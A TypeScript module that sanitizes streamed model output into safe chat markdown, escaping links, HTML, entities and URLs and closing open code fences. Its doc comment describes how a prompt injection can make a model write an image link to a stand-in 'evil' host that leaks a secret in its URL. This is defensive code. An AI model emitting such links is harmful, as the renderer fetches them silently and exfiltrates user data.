/**
 * Model output → chat markdown that cannot fetch anything or reach outside the answer, and the escaping
 * of names we write ourselves. Pure (no `vscode`), so node tests cover it.
 */
import { ControlStripper } from '../../core/text';

const MARKER = /\[redacted: ([^\]\n]{1,200})\]/g;
const FENCE = /^ {0,3}(`{3,}|~{3,})/;

/**
 * Turns streamed model text into markdown that cannot fetch anything or reach outside the answer.
 *
 * Model output is untrusted: a prompt injection can make it write `![x](https://evil/?q=secret)`, which
 * a renderer fetches without a click, a link that looks like something else, raw HTML, an entity such as
 * `&#8238;` that renders a character we strip, or an unclosed code fence that swallows the notes and
 * buttons we write after the answer. So, first, control characters, escape sequences and bidi controls
 * are removed everywhere (code included; a carriage return would otherwise start a line, and so a
 * fence, that we do not see). Then, outside code: `[`, `]` and `<` are escaped (no link, image or HTML
 * can form), `&` becomes `&amp;` (no entity can form), `://` and `www.` are broken with an escape so
 * autolinking finds nothing; code (fenced or inline) is kept literally because it renders as plain text
 * anyway; a fence still open at the end is closed. Everything else (emphasis, lists, headings, tables)
 * still renders. Markers `[redacted: Name]` are rendered in bold.
 *
 * Streaming: text is released a line at a time, or up to the last space of a partial line when that
 * line has no backtick and cannot be a fence, so a link or a URL split across chunks is still caught.
 */
export class MarkdownSanitizer {
  private readonly controls = new ControlStripper();
  private pending = '';
  private fence: string | undefined;
  /** Part of the current line already went out, so what is left cannot open or close a fence. */
  private midLine = false;

  push(chunk: string): string {
    return this.consume(this.controls.push(chunk));
  }

  /** The rest, with any fence the model left open closed. */
  end(): string {
    let out = this.consume(this.controls.end());
    if (this.pending) out += this.line(this.pending);
    this.pending = '';
    if (this.fence) {
      out += `\n${this.fence}\n`;
      this.fence = undefined;
    }
    return out;
  }

  private consume(chunk: string): string {
    this.pending += chunk;
    let out = '';
    let newline = this.pending.indexOf('\n');
    while (newline >= 0) {
      out += this.line(this.pending.slice(0, newline)) + '\n';
      this.pending = this.pending.slice(newline + 1);
      newline = this.pending.indexOf('\n');
    }
    return out + this.releasePartial();
  }

  /** A partial line goes out early only up to a point where what follows cannot change how it renders. */
  private releasePartial(): string {
    const p = this.pending;
    if (!p) return '';
    const couldBeFence = !this.midLine && /^ {0,3}[`~]*$/.test(p.slice(0, Math.min(p.length, 6)).replace(/[^ `~].*$/, ''));
    if (this.fence) {
      if (!this.midLine && (FENCE.test(p) || /^ {0,3}[`~]{0,2}$/.test(p))) return '';
      this.midLine = true;
      this.pending = '';
      return p;
    }
    if (p.includes('`') || (couldBeFence && /^ {0,3}[`~]/.test(p)) || /^ {0,3}$/.test(p)) return '';
    // Never split an unclosed "[" (a marker) or a word (a URL) across releases.
    let cut = p.lastIndexOf(' ');
    const open = p.lastIndexOf('[', cut);
    if (open >= 0) {
      const close = p.indexOf(']', open);
      if (close < 0 || close > cut) cut = open > 0 ? p.lastIndexOf(' ', open - 1) : -1;
    }
    if (cut < 0) return '';
    this.pending = p.slice(cut + 1);
    this.midLine = true;
    return escapeInline(p.slice(0, cut + 1));
  }

  private line(line: string): string {
    const continuation = this.midLine;
    this.midLine = false;
    const fence = continuation ? null : FENCE.exec(line);
    if (fence) {
      const mark = fence[1]!;
      const rest = line.slice(fence[0].length).trim();
      if (!this.fence) {
        // The info string is shown to nobody but could hold anything; keep only a plain language name.
        this.fence = mark;
        return `${mark}${/^[\w+#.-]{0,20}$/.test(rest) ? rest : ''}`;
      }
      if (mark[0] === this.fence[0] && mark.length >= this.fence.length && rest === '') {
        this.fence = undefined;
        return mark;
      }
    }
    if (this.fence) return line;
    return escapeLine(line);
  }
}

/** Escapes one whole line outside code blocks, keeping matched inline code spans as written. */
function escapeLine(line: string): string {
  let out = '';
  let i = 0;
  while (i < line.length) {
    const tick = line.indexOf('`', i);
    if (tick < 0) break;
    const run = /^`+/.exec(line.slice(tick))![0];
    const close = line.indexOf(run, tick + run.length);
    if (close < 0) {
      // Escaped after the text before it, so the backslash is not itself escaped (which would leave the
      // backticks raw, free to pair with ones on the next line).
      out += escapeInline(line.slice(i, tick)) + run.replace(/`/g, '\\`');
      i = tick + run.length;
      continue;
    }
    out += escapeInline(line.slice(i, tick)) + line.slice(tick, close + run.length);
    i = close + run.length;
  }
  return out + escapeInline(line.slice(i));
}

function escapeInline(text: string): string {
  const parts: string[] = [];
  let last = 0;
  for (const m of text.matchAll(MARKER)) {
    parts.push(escapeText(text.slice(last, m.index)), `**\\[redacted: ${escapeText(m[1]!)}\\]**`);
    last = m.index + m[0].length;
  }
  parts.push(escapeText(text.slice(last)));
  return parts.join('');
}

function escapeText(text: string): string {
  return text
    .replace(/\\(?=[[\]<>`&])/g, '\\\\')
    .replace(/[[\]]/g, (c) => `\\${c}`)
    .replace(/&/g, '&amp;')
    .replace(/</g, '&lt;')
    .replace(/>/g, '&gt;')
    .replace(/:\/\//g, ':\\/\\/')
    .replace(/\b(www)\./gi, '$1\\.');
}

/** Sanitizes a whole text at once (for texts that do not stream). */
export function sanitizeMarkdown(text: string): string {
  const s = new MarkdownSanitizer();
  return s.push(text) + s.end();
}

/** Text we write ourselves around user- or settings-provided words (target names, model names). */
export function escapeMarkdown(text: string): string {
  return text.replace(/[\\`*_{}[\]()<>#+\-.!|~]/g, (c) => `\\${c}`).replace(/:\/\//g, ':\\/\\/');
}
